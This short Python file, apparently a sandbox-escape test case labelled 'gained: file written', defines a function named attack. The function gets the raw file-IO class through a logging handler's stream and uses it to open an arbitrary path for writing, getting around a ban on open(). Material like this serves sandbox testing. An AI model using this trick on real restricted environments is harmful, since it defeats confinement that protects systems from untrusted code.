# gained: file written
import logging
from typing import Any, cast


def attack(path: str) -> Any:
    logging.basicConfig()
    stream = cast(Any, logging.getLogger()).handlers[0].stream
    return list(map(type, [stream.buffer.raw]))[0](path, "w")
